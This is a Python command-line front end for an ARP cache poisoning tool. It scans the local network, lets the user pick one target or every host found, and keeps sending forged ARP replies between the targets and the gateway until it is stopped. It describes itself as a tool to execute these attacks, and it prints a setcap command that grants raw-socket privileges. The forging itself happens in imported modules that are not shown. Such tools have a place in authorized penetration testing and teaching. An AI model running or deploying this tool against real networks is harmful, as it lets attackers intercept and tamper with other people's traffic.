#!/usr/bin/env python3
"""Console front end: list interfaces, scan, and run spoofing sessions."""

import argparse
import ctypes
import os
import sys
import threading
from typing import List

from commands import ArpSpoofService
from errors import ArpSpoofError, PrivilegeError
from logger import setup_logging
from packets import Device, InterfaceInfo, get_default_gateway, get_default_interface
from settings import EngineSettings

STATUS_INTERVAL = 5.0


def is_admin() -> bool:
    if sys.platform == 'win32':
        try:
            return ctypes.windll.shell32.IsUserAnAdmin() != 0
        except (AttributeError, OSError):
            return False
    return os.geteuid() == 0


def _print_table(title: str, headers: List[str], rows: List[List[str]]):
    col_widths = [max(len(headers[i]), *(len(row[i]) for row in rows)) if rows else len(headers[i])
                  for i in range(len(headers))]
    print(f'\n[+] {title}:')
    print('  '.join(headers[i].ljust(col_widths[i]) for i in range(len(headers))))
    print('  '.join('-' * col_widths[i] for i in range(len(headers))))
    for row in rows:
        print('  '.join(row[i].ljust(col_widths[i]) for i in range(len(headers))))


def _print_interfaces(interfaces: List[InterfaceInfo]):
    rows = [[iface.name, iface.mac, ', '.join(str(addr) for addr in iface.addresses)]
            for iface in interfaces]
    _print_table('Interfaces', ['Name', 'MAC Address', 'IPv4'], rows)


def _print_discovered_hosts(hosts: List[Device]):
    rows = [[str(idx), host.ip, host.mac or 'unknown', host.hostname or 'unknown', host.vendor]
            for idx, host in enumerate(hosts, start=1)]
    _print_table('Discovered hosts', ['Idx', 'IP Address', 'MAC Address', 'Hostname', 'Vendor'], rows)


def _choose_host(hosts: List[Device]) -> Device:
    while True:
        choice = input('\n[?] Select target by index (or Q to abort): ').strip().lower()
        if choice in ('q', 'quit', 'exit'):
            raise SystemExit('[!] Aborted by user during target selection.')
        if not choice.isdigit():
            print('[!] Invalid selection. Please enter a number from the list.')
            continue
        index = int(choice)
        if not 1 <= index <= len(hosts):
            print('[!] Selection out of range. Try again.')
            continue
        return hosts[index - 1]


def _run_until_interrupted(service: ArpSpoofService, session_ids: List[str], restore: bool):
    print('\n[+] ARP Spoofing attack initiated. Press Ctrl-C to abort.')
    idle = threading.Event()
    try:
        while True:
            active = service.get_active_sessions()
            if not active:
                print('[!] No session is active anymore.')
                return
            total = sum(session.packets_sent for session in active)
            print(f'[*] {len(active)} active session(s), {total} forged replies sent')
            idle.wait(STATUS_INTERVAL)
    except KeyboardInterrupt:
        print('\n[!] Interrupt received. Stopping ARP spoofing...')
    finally:
        for session_id in session_ids:
            service.stop_spoofing(session_id, restore=restore)


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        description='Execute ARP Cache Poisoning attacks (a.k.a "ARP '
                    'Spoofing") on local networks.')
    parser.add_argument('targetip', type=str, nargs='?', metavar='TARGET_IP',
                        help='IP address currently assigned to the target. Optional when using --scan.')
    parser.add_argument('-i', '--interface', type=str,
                        help='Interface on the attacker machine to send packets from.')
    parser.add_argument('--gatewayip', type=str, metavar='IP',
                        help='IP address currently assigned to the gateway '
                             '(defaults to the default route).')
    parser.add_argument('--interval', type=float, default=None, metavar='TIME',
                        help='Time in between each transmission of spoofed ARP '
                             'packets (defaults to 1 second).')
    parser.add_argument('--list-interfaces', action='store_true',
                        help='List usable interfaces and exit.')
    parser.add_argument('--scan', action='store_true',
                        help='Discover hosts on the local network and allow interactive target selection.')
    parser.add_argument('--scan-timeout', type=float, default=None, metavar='TIME',
                        help='Seconds spent collecting ARP replies during scanning (default: 3).')
    parser.add_argument('--all', action='store_true',
                        help='With --scan, spoof every discovered host instead of choosing one.')
    parser.add_argument('--restore', action='store_true',
                        help='Send corrective ARP replies with the real MAC addresses on exit.')
    parser.add_argument('--log-level', type=str, default=None,
                        help='Logging level (DEBUG, INFO, WARNING, ...).')
    parser.add_argument('--log-file', type=str, default=None,
                        help='Log file path (default: logs/arp_spoofer.log).')
    return parser


def main(argv=None):
    cli_args = build_parser().parse_args(argv)
    try:
        settings = EngineSettings.from_env().updated(spoof_interval=cli_args.interval,
                                                     sweep_window=cli_args.scan_timeout,
                                                     log_level=cli_args.log_level,
                                                     log_file=cli_args.log_file)
    except ArpSpoofError as exc:
        raise SystemExit(f'[!] Invalid configuration: {exc}')
    setup_logging(settings.log_level, settings.log_file)

    if not is_admin():
        print('[!] You need to run this script with elevated (admin) privileges.')

    with ArpSpoofService(settings) as service:
        try:
            if cli_args.list_interfaces:
                _print_interfaces(service.list_interfaces())
                return

            interface = cli_args.interface or get_default_interface()
            if not interface:
                raise SystemExit('[!] Unable to determine default interface. Supply one with -i/--interface.')
            gateway_ip = cli_args.gatewayip or get_default_gateway()
            if not gateway_ip:
                raise SystemExit('[!] Unable to determine the gateway. Supply it with --gatewayip.')

            if cli_args.scan:
                print(f'[*] Scanning hosts via interface {interface}...')
                hosts = service.scan_network(interface)
                if not hosts:
                    raise SystemExit('[!] No hosts discovered. Try increasing --scan-timeout.')
                _print_discovered_hosts(hosts)
                if cli_args.all:
                    batch = service.start_spoof_all(hosts, gateway_ip, interface)
                    for ip, exc in batch.failures.items():
                        print(f'[!] {ip}: {exc}')
                    if not batch.session_ids:
                        raise SystemExit('[!] No session could be started.')
                    _run_until_interrupted(service, batch.session_ids, cli_args.restore)
                    return
                chosen = _choose_host(hosts)
                cli_args.targetip = chosen.ip
                print(f"[+] Selected target {chosen.ip} ({chosen.hostname or 'unknown'})")

            if not cli_args.targetip:
                raise SystemExit('[!] TARGET_IP is required unless --scan is used.')

            session_id = service.start_spoofing(cli_args.targetip, gateway_ip, interface)
            _run_until_interrupted(service, [session_id], cli_args.restore)
        except PrivilegeError as exc:
            raise SystemExit(f'[!] Permission denied: {exc}\n'
                             '    Run with sudo or grant CAP_NET_RAW: '
                             'sudo setcap cap_net_raw+eip $(readlink -f $(which python3))')
        except ArpSpoofError as exc:
            raise SystemExit(f'[!] {exc}')


if __name__ == '__main__':
    main()
